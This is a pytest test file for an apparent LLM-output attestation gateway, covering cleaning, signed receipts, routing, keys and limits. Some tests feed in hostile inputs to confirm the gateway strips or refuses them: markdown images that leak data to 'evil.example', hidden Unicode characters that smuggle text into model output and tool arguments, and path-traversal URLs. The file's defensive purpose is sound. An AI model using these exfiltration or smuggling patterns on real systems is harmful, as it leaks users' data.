"""The gateway over raw sockets and a real store: bytes on the wire = bytes attested; routes, keys, headers, inputs.

Spec: gateway.md sections 2 (data flow), 3 (surface), 4 (wire rules), 6 (receipts), 13 (limits).
"""

from __future__ import annotations

import hashlib
import json
import threading
import time
from dataclasses import replace

import pytest
from gateway_kit import MESSAGES, Connection, chat, check_released, desk, request, sim, text_of, wait_for

from apostille.core.canon import canonicalize, profile_id
from apostille.core.canon.policy import Policy
from apostille.faces.gateway.cleaning import Cleaning
from apostille.faces.gateway.wire import Limits


@pytest.fixture(autouse=True)
def _home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.fixture
def here(tmp_path):
    with desk(tmp_path) as found:
        yield found


@pytest.mark.parametrize("streamed", [False, True])
def test_what_is_sent_is_what_was_committed(here, streamed):
    response = chat(here, stream=streamed)
    assert response.status == 200
    assert text_of(response) == "Hello there."
    leaf = check_released(here, response)
    said = leaf.statement.predicate
    assert (said["assurance"], said["commitment"], said["profile"], "outcome" in said) == ("bound", "salted", profile_id(), False)
    assert leaf.content("part/choice/0/text") == b"Hello there."
    attributes = leaf.attributes
    assert attributes["agent"] == "test-agent"
    assert attributes["media_type"] == ("text/event-stream" if streamed else "application/json")
    assert attributes["model"] == {"name": "sim-1", "response_id": "chatcmpl-sim"}
    assert (attributes["finish"], attributes["route"]) == ("stop", "chat.completions")
    assert attributes["parts"] == [{"path": "choice/0/text", "media_type": "text/plain"}]
    if not streamed:
        assert attributes["usage"] == {"input": 9, "output": 3}
    # The upstream saw the client's own bytes, uncompressed answers asked for, and nothing of ours.
    (asked,) = here.upstream.asked
    assert asked.body == request(stream=streamed)
    assert asked.path == "/v1/chat/completions"
    assert asked.headers["accept-encoding"] == "identity"
    assert here.secret not in repr(asked)


def test_raw_is_what_the_upstream_sent(here):
    scripted = sim.stream("a", "b", usage=True)
    here.upstream.script(scripted)
    response = chat(here, stream=True)
    leaf = check_released(here, response)
    assert leaf.content("raw") == b"".join(scripted.steps)
    assert leaf.content("canonical") != leaf.content("raw")
    assert response.chunks[-1]["choices"] == []
    assert response.chunks[-1]["usage"]["total_tokens"] == 12
    assert response.chunks[-2]["apostille"] == {
        "v": 1,
        "id": response.headers["apostille-id"],
        "bundle": response.headers["apostille-bundle"],
    }


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("kind", ["tags", "selectors", "override"])
def test_hidden_characters_are_gone_from_text(here, kind, streamed):
    dirty = f"The refund is {sim.HIDDEN[kind]}42 EUR."
    here.upstream.script(sim.stream(dirty[:15], dirty[15:20], dirty[20:]) if streamed else sim.text(dirty))
    response = chat(here, stream=streamed)
    assert text_of(response) == "The refund is 42 EUR."
    leaf = check_released(here, response)
    assert leaf.findings
    assert leaf.attributes["changes"]
    assert leaf.attributes["part_findings"] == {"choice/0/text": len(leaf.findings)}
    assert dirty.encode() in leaf.content("raw") or json.dumps(dirty)[1:20].encode() in leaf.content("raw")


@pytest.mark.parametrize("form", ["as characters", "as escapes"])
@pytest.mark.parametrize("size", [None, 1, 3, 5])
def test_hidden_characters_are_gone_from_tool_arguments(here, form, size):
    value = {"path": f"/srv/{sim.TAGS}a.txt", "note": f"x{sim.SELECTORS}y", "who": f"{sim.OVERRIDE}abc"}
    arguments = sim.escaped(value) if form == "as escapes" else json.dumps(value, ensure_ascii=False)
    here.upstream.script(
        sim.tools(sim.call("write", arguments)) if size is None else sim.tool_stream("write", arguments, size=size)
    )
    response = chat(here, stream=size is not None)
    assert response.status == 200
    if size is None:
        (call,) = response.json["choices"][0]["message"]["tool_calls"]
    else:
        calls = [
            chunk["choices"][0]["delta"]["tool_calls"]
            for chunk in response.chunks
            if "tool_calls" in chunk["choices"][0]["delta"]
        ]
        ((call,),) = calls
        assert (call["index"], call["id"], call["type"]) == (0, "call_1", "function")
    clean = {"note": "xy", "path": "/srv/a.txt", "who": "abc"}
    assert call["function"] == {"name": "write", "arguments": json.dumps(clean, separators=(",", ":"))}
    leaf = check_released(here, response)
    part = leaf.content("part/choice/0/arguments/0")
    # Anybody can compute the part again from what an SDK hands out.
    assert part == call["function"]["arguments"].encode() == canonicalize(part, media_type="application/json").bytes
    assert leaf.attributes["parts"] == [
        {"path": "choice/0/arguments/0", "media_type": "application/json", "tool": "write", "call_id": "call_1"}
    ]
    assert leaf.attributes["finish"] == "tool_calls"


@pytest.mark.parametrize("streamed", [False, True])
def test_arguments_that_are_no_json_are_text_and_flagged(here, streamed):
    arguments = f'{{"city": "Berl{sim.TAGS}in"'
    here.upstream.script(sim.tool_stream("w", arguments) if streamed else sim.tools(sim.call("w", arguments)))
    response = chat(here, stream=streamed)
    leaf = check_released(here, response)
    assert leaf.content("part/choice/0/arguments/0") == b'{"city": "Berlin"'
    assert leaf.attributes["invalid_json"] == ["choice/0/arguments/0"]


def test_every_kind_of_part(here):
    value = sim.completion(
        [
            sim.choice(f"one{sim.TAGS}", reasoning_content=f"because{sim.SELECTORS}", reasoning="too"),
            sim.choice(None, index=1, refusal=f"No{sim.OVERRIDE}."),
            sim.choice(
                "", index=2, finish="tool_calls", tool_calls=[sim.call("f", "{}"), sim.call("g", '{"b":1,"a":2}', call_id="c2")]
            ),
        ]
    )
    here.upstream.script(sim.whole(value))
    response = chat(here, n=3)
    leaf = check_released(here, response)
    parts = {name.removeprefix("part/"): leaf.content(name) for name in leaf.openings if name.startswith("part/")}
    assert parts == {
        "choice/0/text": b"one",
        "choice/0/reasoning": b"because",
        "choice/0/reasoning/1": b"too",
        "choice/1/refusal": b"No.",
        "choice/2/arguments/0": b"{}",
        "choice/2/arguments/1": b'{"a":2,"b":1}',
    }
    assert set(response.receipt["salts"]) == {"canonical", *(f"part/{path}" for path in parts)}
    messages = [choice["message"] for choice in response.json["choices"]]
    assert messages[0] == {
        "role": "assistant",
        "content": "one",
        "refusal": None,
        "reasoning_content": "because",
        "reasoning": "too",
    }
    assert messages[1]["refusal"] == "No."
    assert leaf.attributes["finish"] == ["stop", "stop", "tool_calls"]


@pytest.mark.parametrize("streamed", [False, True])
def test_answers_that_are_drawn_as_markdown(tmp_path, streamed):
    cleaning = Cleaning("text/markdown", "strict", Policy(image_hosts=("img.example.com",)))
    said = (
        "See ![a](https://img.example.com/a.png) ![b](https://evil.example/b.png?d=secret) <!-- note -->here.  \n"
        "\u201cDone\u201d `a\u200bb`"
    )
    arguments = json.dumps({"a": "\u201cx\u201d ![b](https://evil.example/b.png)"}, ensure_ascii=False)
    pieces = [sim.delta(role="assistant", content=said[:30]), sim.delta(content=said[30:])]
    called = {"index": 0, **sim.call("f", arguments)}
    with desk(tmp_path, cleaning=cleaning) as here:
        here.upstream.script(
            sim.events(*pieces, sim.delta(tool_calls=[called]), sim.delta(finish="tool_calls"))
            if streamed
            else sim.tools(sim.call("f", arguments), content=said)
        )
        leaf = check_released(here, chat(here, stream=streamed))
    assert leaf.statement.predicate["profile"] == cleaning.id
    assert "apostille-strict/1" in cleaning.id and "markdown=" in cleaning.id and "policy=" in cleaning.id
    text, sent = leaf.content("part/choice/0/text"), leaf.content("part/choice/0/arguments/0")
    assert b"img.example.com/a.png" in text and b"secret" not in text and b"note" not in text and b"a\xe2\x80\x8bb" in text
    # What a recipient computes again from the id that was signed, and from the media type of each part, is what was sent.
    for raw, clean, media_type in ((said, text, "text/markdown"), (arguments, sent, "application/json")):
        again = canonicalize(raw, media_type=media_type, profile="strict", policy=cleaning.policy)
        assert (again.bytes, cleaning.id.startswith(again.profile)) == (clean, True)
    assert leaf.attributes["parts"][0]["media_type"] == "text/markdown"


def test_markdown_that_is_refused_does_not_leave(tmp_path):
    with desk(tmp_path, cleaning=Cleaning("text/markdown")) as here:
        here.upstream.script(sim.whole(sim.completion([sim.choice("> " * 100 + "deep")])))
        response = chat(here)
        assert (response.status, response.error["type"]) == (502, "apostille_error")
        assert here.output().statement.predicate["outcome"] == "upstream_error"


def test_a_message_of_an_error_is_cleaned_as_the_signed_profile_says(tmp_path):
    cleaning = Cleaning("text/markdown", "strict")
    message = "No. ![b](https://evil.example/b.png?d=secret) <!-- note -->Ask p\u200bayroll."
    with desk(tmp_path, cleaning=cleaning) as here:
        here.upstream.script(sim.error(400, message))
        response = chat(here)
        assert response.status == 400
        leaf = check_released(here, response)
    again = canonicalize(message, media_type=cleaning.media_type, profile=cleaning.profile)
    assert (response.error["message"], again.profile) == (again.bytes.decode(), leaf.statement.predicate["profile"])
    assert "secret" not in response.error["message"] and {one["code"] for one in leaf.findings} >= {"MD_IMAGE_HOST", "ZWSP_DROP"}


def test_log_probabilities_are_null_and_listed(here):
    token = {"token": "x", "logprob": -0.1, "bytes": [120], "top_logprobs": []}
    here.upstream.script(sim.whole(sim.completion([{**sim.choice("x"), "logprobs": {"content": [token]}}])))
    response = chat(here)
    assert response.json["choices"][0]["logprobs"] is None
    assert check_released(here, response).attributes["rewrites"] == ["null choices/0/logprobs"]


def test_a_receipt_header_that_grows_too_large_is_left_out(here):
    calls = [sim.call("f", "{}", call_id=f"c{number}") for number in range(60)]
    here.upstream.script(sim.tools(*calls[:30]), sim.tools(*calls))
    assert len(chat(here).headers["apostille-receipt"]) <= 4096
    response = chat(here)
    assert "apostille-receipt" not in response.headers
    assert response.json["apostille"]["id"] == response.headers["apostille-id"]
    assert here.outputs()[1].content("canonical") == response.body


def test_a_request_that_does_not_end(tmp_path):
    with desk(tmp_path, limits=Limits(idle_seconds=0.5)) as here, Connection(here.server.url) as connection:
        body = request()
        connection.send("POST", f"{here.prefix}/chat/completions", body[:-5], content_length=str(len(body)))
        response = connection.receive()
        assert (response.status, response.error["code"]) == (408, "request_timeout")
        assert here.upstream.asked == []


def test_a_large_answer_passes(here):
    here.upstream.script(sim.text("é" + "x" * 3_000_000))
    response = chat(here)
    assert response.status == 200
    assert len(text_of(response)) == 3_000_001
    check_released(here, response)


BAD_REQUESTS = [
    ("not JSON", b"{", 400),
    ("duplicate keys", b'{"model":"m","messages":[],"messages":[{"role":"user","content":"x"}]}', 400),
    ("no messages", b'{"model":"m"}', 400),
    ("empty messages", b'{"model":"m","messages":[]}', 400),
    ("an unknown role", b'{"model":"m","messages":[{"role":"god","content":"x"}]}', 400),
    ("a message that is text", b'{"model":"m","messages":["x"]}', 400),
    ("stream is a word", b'{"model":"m","messages":[{"role":"user","content":"x"}],"stream":"yes"}', 400),
    ("a lone surrogate", b'{"model":"m","messages":[{"role":"user","content":"\\ud800"}]}', 400),
    ("too deep", b'{"messages":' + b"[" * 200 + b"]" * 200 + b"}", 400),
]


@pytest.mark.parametrize(("body", "status"), [case[1:] for case in BAD_REQUESTS], ids=[case[0] for case in BAD_REQUESTS])
def test_requests_that_never_reach_the_upstream(here, body, status):
    response = chat(here, body=body)
    assert (response.status, response.error["code"]) == (status, "invalid_request")
    assert here.upstream.asked == []
    assert here.inputs() == []


def test_request_limits_and_types(tmp_path):
    with desk(tmp_path, limits=Limits(request_bytes=100_000)) as here:
        response = chat(here, body=request(messages=[{"role": "user", "content": "x" * 200_000}]))
        assert (response.status, response.error["code"]) == (413, "request_too_large")
        assert response.headers["connection"] == "close"
        with Connection(here.server.url) as connection:
            path = f"{here.prefix}/chat/completions"
            assert connection.ask("POST", path, request(), content_type="text/plain").status == 415
            assert connection.ask("POST", path, request(), content_encoding="gzip").status == 415
        assert here.upstream.asked == []


OTHER_ROUTES = [
    ("GET", "/models"),
    ("POST", "/embeddings"),
    ("POST", "/responses"),
    ("POST", "/messages"),
    ("POST", "/batches"),
    ("GET", "/chat/completions"),
    ("DELETE", "/chat/completions"),
    ("POST", "/chat/completions/"),
    ("POST", "/../v1/chat/completions"),
    ("POST", "/%2e%2e/chat/completions"),
    ("POST", "/a//chat/completions"),
    ("GET", "/"),
]


@pytest.mark.parametrize(("method", "path"), OTHER_ROUTES)
def test_other_routes_are_refused(here, method, path):
    with Connection(here.server.url) as connection:
        response = connection.ask(method, here.prefix + path, request() if method == "POST" else b"")
    assert (response.status, response.error["code"]) == (403, "route_not_attested")
    assert "chat/completions" in response.error["message"]
    assert here.upstream.asked == []


def test_upgrades_are_refused(here):
    with Connection(here.server.url) as connection:
        response = connection.ask(
            "GET", f"{here.prefix}/realtime", connection="upgrade", upgrade="websocket", sec_websocket_version="13"
        )
        assert (response.status, response.error["code"]) == (403, "route_not_attested")
    with Connection(here.server.url) as connection:
        response = connection.ask("POST", f"{here.prefix}/chat/completions", connection="upgrade, http2-settings", upgrade="h2c")
        assert response.status == 403
    assert here.upstream.asked == []


@pytest.mark.parametrize(
    "path",
    ["/v1/chat/completions", "/r/wrong-secret-of-some-length/v1/chat/completions", "/r//v1/chat/completions", "/v1/models"],
)
def test_without_the_secret_there_is_nothing(here, path):
    with Connection(here.server.url) as connection:
        response = connection.ask("POST", path, request())
    assert (response.status, response.error["code"]) == (401, "unauthorized")
    assert here.secret.encode() not in response.body
    assert here.upstream.asked == []


def test_another_run_is_refused(here):
    assert chat(here, apostille_run=here.run.id).status == 200
    assert chat(here, apostille_run="0" * 32).status == 401


def test_keys_pass_through_and_are_never_recorded(here):
    assert chat(here, authorization="Bearer sk-secret", x_api_key="sk-other").status == 200
    headers = here.upstream.asked[0].headers
    assert (headers["authorization"], headers["x-api-key"]) == ("Bearer sk-secret", "sk-other")
    assert not any(b"sk-" in opening for leaf in here.leaves() for opening in leaf.openings.values())


def test_an_injected_key_replaces_the_clients(tmp_path):
    with desk(tmp_path, api_key="sk-upstream") as here:
        assert chat(here, authorization="Bearer sk-client", api_key="sk-client").status == 200
        headers = here.upstream.asked[0].headers
        assert headers["authorization"] == "Bearer sk-upstream"
        assert "sk-client" not in repr(headers)


def test_headers_pass_by_allow_list(here):
    headers = {
        "x-request-id": "req_1",
        "x-ratelimit-remaining-tokens": "99",
        "set-cookie": "a=b",
        "x-odd": "1",
        "openai-version": "x",
    }
    here.upstream.script(replace(sim.text("x"), headers=headers))
    response = chat(here)
    assert set(response.headers) == {
        "apostille-bundle",
        "apostille-id",
        "apostille-receipt",
        "cache-control",
        "content-digest",
        "content-length",
        "content-type",
        "date",
        "x-ratelimit-remaining-tokens",
        "x-request-id",
    }
    assert check_released(here, response).attributes["upstream_headers"] == {
        "x-request-id": "req_1",
        "x-ratelimit-remaining-tokens": "99",
    }


def test_a_query_string_reaches_the_upstream_unchanged(here):
    with Connection(here.server.url) as connection:
        path = f"{here.prefix}/deployments/gpt-x/chat/completions?api-version=2026-01-01&x=%2Fa%20b"
        assert connection.ask("POST", path, request()).status == 200
    (asked,) = here.upstream.asked
    assert asked.path == "/v1/deployments/gpt-x/chat/completions"
    assert asked.query == "api-version=2026-01-01&x=/a b"


def test_a_message_becomes_an_input_once(here):
    first = chat(here, tools=[{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}])
    assert first.status == 200
    longer = [*MESSAGES, {"role": "assistant", "content": "Hello there."}, {"role": "tool", "tool_call_id": "c", "content": "7"}]
    chat(here, messages=longer)
    inputs, outputs = here.inputs(), here.outputs()
    assert [leaf.attributes["source"] for leaf in inputs] == [{"kind": k} for k in ("system", "system", "user", "agent", "tool")]
    assert json.loads(inputs[1].content("raw")) == MESSAGES[0]
    digests = [here.keeper.reader.record(leaf.index).pae_digest for leaf in inputs]
    assert outputs[0].statement.predicate["inputs"] == [d.hex() for d in digests[:3]]
    assert outputs[1].statement.predicate["inputs"] == [d.hex() for d in digests[3:]]
    assert outputs[0].attributes["context"] == hashlib.sha256(b"".join(digests[:3])).hexdigest()
    assert outputs[1].attributes["context"] == hashlib.sha256(b"".join(digests[1:])).hexdigest()
    assert all(leaf.index < outputs[0].index for leaf in inputs[:3])


def test_nothing_is_sent_before_the_commit(here, monkeypatch):
    store = here.keeper._store
    original, gate, waiting = store.commit, threading.Event(), threading.Event()

    def slow(expected, records, growth):
        waiting.set()
        assert gate.wait(20)
        original(expected, records, growth)

    monkeypatch.setattr(store, "commit", slow)
    with Connection(here.server.url) as connection:
        connection.send("POST", f"{here.prefix}/chat/completions", request(stream=True))
        assert waiting.wait(10)
        assert connection.nothing_came(0.7)
        assert len(here.upstream.asked) == 1
        gate.set()
        response = connection.receive()
    assert response.status == 200
    check_released(here, response)


def test_keep_alive_and_pipelining(here):
    with Connection(here.server.url) as connection:
        path = f"{here.prefix}/chat/completions"
        for streamed in (False, True, False):
            assert connection.ask("POST", path, request(stream=streamed)).status == 200
            assert connection.ask("GET", f"{here.prefix}/models").status == 403
        connection.send("POST", path, request())
        connection.send("POST", path, request(stream=True))
        first, second = connection.receive(), connection.receive()
    leaves = {leaf.attributes["media_type"]: leaf for leaf in here.outputs()[-2:]}
    check_released(here, first, leaves["application/json"])
    check_released(here, second, leaves["text/event-stream"])


def test_many_requests_at_one_time_on_one_run(here):
    count = 24
    here.upstream.script(*(replace(sim.text(f"answer {n}"), delay=0.2) for n in range(count)))
    found = []
    threads = [
        threading.Thread(target=lambda n=n: found.append(chat(here, messages=[{"role": "user", "content": f"q {n % 6}"}])))
        for n in range(count)
    ]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert time.monotonic() - started < 10
    assert sorted(text_of(response) for response in found) == sorted(f"answer {n}" for n in range(count))
    assert len(here.inputs()) == 6
    by_index = {leaf.index: leaf for leaf in here.outputs()}
    assert len(by_index) == count
    for response in found:
        check_released(here, response, by_index[response.receipt["index"]])
    # One chain without holes.
    leaves = here.leaves()
    assert [leaf.statement.predicate["seq"] for leaf in leaves] == list(range(len(leaves)))


def test_more_than_the_bound_is_refused_before_the_upstream(tmp_path):
    with desk(tmp_path, limits=Limits(in_flight=1)) as here:
        gate = threading.Event()
        here.upstream.script(sim.Scripted([gate, *sim.text("x").steps]))
        with Connection(here.server.url) as connection:
            connection.send("POST", f"{here.prefix}/chat/completions", request())
            wait_for(lambda: here.upstream.asked)
            response = chat(here)
            assert (response.status, response.error["code"], response.headers["retry-after"]) == (503, "busy", "1")
            gate.set()
            assert connection.receive().status == 200


def test_receipts(here):
    response = chat(here)
    path = response.headers["apostille-bundle"].removeprefix(here.server.url)
    here.keeper.wait_published(response.receipt["index"], 10)
    with Connection(here.server.url) as connection:
        receipt = connection.ask("GET", path)
        assert (receipt.status, receipt.headers["apostille-state"]) == (200, "published")
        assert receipt.json["type"] == "urn:apostille:receipt:v1"
        assert receipt.body == here.keeper.receipt(response.headers["apostille-id"])[1]
        assert "head" in connection.ask("GET", f"{path}?since=3").json
        assert connection.ask("GET", f"{path}?since=+3").status == 400
        missing = connection.ask("GET", f"/receipts/{'0' * 32}")
        assert (missing.status, missing.error["code"]) == (404, "no_such_receipt")
        assert connection.ask("GET", "/receipts/../store.sqlite").status == 401
